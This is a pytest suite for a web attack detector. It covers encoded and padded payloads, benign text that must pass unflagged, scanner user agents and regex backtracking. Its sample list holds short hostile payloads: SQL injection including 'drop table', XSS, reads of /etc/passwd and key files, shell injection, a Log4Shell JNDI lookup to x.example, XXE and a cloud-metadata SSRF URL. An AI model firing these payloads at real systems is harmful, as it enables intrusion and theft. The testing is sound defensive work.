"""Attacks are told by name, however they are written; what people write is not. Covers: readings."""

from __future__ import annotations

import base64
import time
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shipworthy.kernel.edge.attacks import RULES, attack_in, tool_in
from shipworthy.kernel.edge.readings import CHARS_MAX, readings

# One of each kind, in words of our own.
ATTACKS = {
    "sql.union": "7 union all select name, 1 from staff",
    "sql.subselect": "1-(select count(*) from staff)",
    "sql.tautology": "x' or 'a'='a",
    "sql.delay": "1;select pg_sleep(9)",
    "sql.function": "1 and updatexml(1,concat(0x7e,user()),1)",
    "sql.catalogue": "name from information_schema.tables",
    "sql.stacked": "5; drop table invoice",
    "xss.script_tag": "<script src=//x.example></script>",
    "xss.handler": '"><img src=q onerror=go()>',
    "xss.script_url": "javascript:alert(7)",
    "xss.prototype": "__proto__[admin]=1",
    "file.traversal": "pictures/../../secret",
    "file.system": "/etc/passwd",
    "file.wrapper": "php://filter/read=x",
    "shell.chained": "report.pdf; cat /var/data/keys",
    "shell.substitution": "x$(id)",
    "shell.path": "x|/bin/busybox",
    "code.php": "<?php echo 1;",
    "code.java": "${jndi:ldap://x.example/a}",
    "code.python": "''.__class__.__mro__[1]",
    "code.node": "require('child_process').exec('id')",
    "template.expression": "{{7*7}}",
    "ldap.filter": "*)(uid=*))(|(uid=*",
    "nosql.operator": '{"password": {"$ne": null}}',
    "mail.header": "hello\r\nBcc: all@x.example",
    "http.header": "x\r\nSet-Cookie: a=b",
    "include.server": '<!--#exec cmd="id"-->',
    "xml.entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "c">]>',
    "request.inner": "http://169.254.169.254/latest/meta-data",
}
# What customers, products, notes and messages are really called.
PEOPLE = (
    "Müller & Söhne GmbH", "D'Or, Jean-Luc O'Brien", "10 % off; 2 for 1", "Select & Union Ltd.", "Update 2.0 (beta)",
    "Please select one from the list, or drop by; we exec orders fast", "100 and 5 = 105", "A/B, C/D; E|F",
    "Invoice #12 -- paid", "<3 you all", "x < y and y > z", "Rock'n'roll; ls 300 Lexus", "50% or more", "C:\\Users\\Ada\\Invoices",
    "https://www.example.com/path?a=1&b=2#top", "Ada <ada@example.com>", "Price: 5.00 (incl. 19 % VAT)", "me@mail.example",
    "Zeile 1\r\nZeile 2\r\nMit freundlichen Grüßen", "From: the team; to: everybody", "Java, JavaScript: basics", "cat food; dog food",
    "{draft} [old] (new)", "=SUM(A1:A3)", "$100 & more", "1' x 2\"", "Terms: net 30; 2 % discount within 10 days.", "#1 in town!",
    "We echo what customers say: curl & bash are tools", "node.js/express; python 3.11", "Order by 5 pm", "Bring & Buy (sale)",
    "9f86d081-884c-7d65-9a2f-eaa0c55ad015", "dGhpcyBpcyBub3RoaW5n", "Where is the document, please?", "20:15 - 22:00", "a*b=c", "R&D",
)  # fmt: skip


@pytest.mark.parametrize(("rule", "text"), ATTACKS.items())
def test_an_attack_is_told_by_name_however_it_is_written(rule: str, text: str) -> None:
    found = attack_in(text)
    assert found is not None and found.rule == rule, found
    assert found.says and found.excerpt
    for written in (
        quote(text),
        quote(quote(text)),
        text.upper(),
        base64.b64encode(text.encode()).decode(),
        f"ok {text}",
    ):
        if rule in ("file.system", "file.traversal") and written.startswith("ok"):
            continue
        assert attack_in(written) is not None, written
    padded = "a" * (2 * CHARS_MAX) + " " + text
    assert attack_in(padded) is not None


@pytest.mark.parametrize("text", PEOPLE)
def test_what_people_write_is_no_attack(text: str) -> None:
    assert attack_in(text) is None, attack_in(text)


def test_a_tool_that_looks_for_holes_is_told_from_browsers_and_crawlers() -> None:
    assert tool_in("sqlmap/1.8 (https://sqlmap.example)") is not None
    browser = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 Safari/537.36"
    assert tool_in(browser) is None
    assert tool_in("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)") is None


def test_every_rule_says_what_it_is_about_and_has_a_name_of_its_own() -> None:
    assert len({rule.name for rule in RULES}) == len(RULES)
    assert all(rule.says and 0 < rule.score <= 5 for rule in RULES)


@given(st.text(max_size=300))
def test_no_text_breaks_it(text: str) -> None:
    attack_in(text)
    assert list(readings(text))


@pytest.mark.parametrize(
    "text",
    [
        "'" * 20_000,
        "(" * 20_000,
        "../" * 7_000,
        "<" * 20_000,
        "or 1 " * 4_000,
        "${" * 10_000,
        "on" * 10_000,
        "\r\n " * 6_000,
    ],
)
def test_no_text_keeps_it_busy(text: str) -> None:
    began = time.thread_time()
    attack_in(text)
    assert time.thread_time() - began < 2  # a pattern that backtracks takes minutes
